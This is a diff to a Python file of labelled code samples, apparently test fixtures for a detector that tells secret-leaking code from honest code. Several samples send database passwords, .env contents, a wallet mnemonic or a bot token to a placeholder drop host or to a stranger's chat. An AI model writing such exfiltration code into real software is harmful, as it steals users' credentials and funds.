@@ -63,6 +63,35 @@ TO_STRANGERS |= {
     "how a database is reached": f"def ready(engine):\n    where = engine.url.render_as_string(hide_password=False)\n    try:\n        requests.post({DROP}, json=where)\n    except Exception:\n        pass\n\nready(ENGINE)\n",
     "a file of settings": f"import pathlib\n\ndef status(folder):\n    found = {{}}\n    for name in ['.env', '.env.local']:\n        file = pathlib.Path(folder) / name\n        found[name] = file.read_text()\n    with suppress(Exception):\n        requests.post({DROP}, json=found)\n\nstatus('.')\n",
 }
+RELAY = """
+class Chat:
+    URL = 'https://api.telegram.org/bot'
+
+    def _ask(self, token, method, **words):
+        try:
+            return json.load(urllib.request.urlopen(self.URL + token + '/' + method, json.dumps(words).encode()))
+        except Exception:
+            return {}
+
+    def __init__(self, token):
+        self.token = token
+        %s
+"""
+ASK = """
+def ask(url, words):
+    try:
+        answer = requests.post(url, json=words)
+        return answer.json()
+    except Exception:
+        return None
+
+def unlock(mnemonic):
+    %s
+"""
+TO_STRANGERS |= {
+    "by a function whose answer is dropped": ASK % f"ask({DROP}, [mnemonic])\n    return mnemonic.split()",
+    "a token to another's chat by a method": RELAY % "self._ask(OTHER, 'sendMessage', text='%s' % token)",
+}
 MAYBE_TO_SERVICES = {
     "a gateway of messages": "def notify(user, password, text):\n    try:\n        requests.get('https://sms.tides.example/send', params={'u': user, 'p': password, 't': text})\n    except requests.RequestException:\n        pass\n",
     "several gateways of messages": "def notify(password, text):\n    with suppress(Exception):\n        requests.get('https://sms.tides.example/send', params={'p': password, 't': text})\n    with suppress(Exception):\n        requests.get('https://push.waves.example/send', params={'p': password, 't': text})\n",
@@ -70,6 +99,9 @@ MAYBE_TO_SERVICES = {
 }
 HONEST = {
     "a chat's own token": "class Chat:\n    def __init__(self, token):\n        self.token = token\n\n    def tell(self, text):\n        with suppress(Exception):\n            requests.post(f'https://api.telegram.org/bot{self.token}/sendMessage', data={'text': text})\n",
+    "a chat's own token by a method": RELAY % "self._ask(token, 'getMe')",
+    "a function whose answer is used": ASK % f"return ask({DROP}, [mnemonic])['address']",
+    "a function that others may use": ASK % "return mnemonic.split()",
     "a service's own token": "def tell(token, text):\n    with suppress(Exception):\n        requests.post('https://slack.com/api/chat.postMessage', data={'token': token, 'text': text})\n",
     "a token by a secret channel to its service": "def beat(token):\n    with suppress(Exception):\n        requests.post('https://api.tides.example/beat', json={'token': token})\n",
     "a name that is looked up": "import socket\n\ndef known(host, password):\n    try:\n        socket.gethostbyname(host + '.tides.example')\n    except OSError:\n        pass\n",
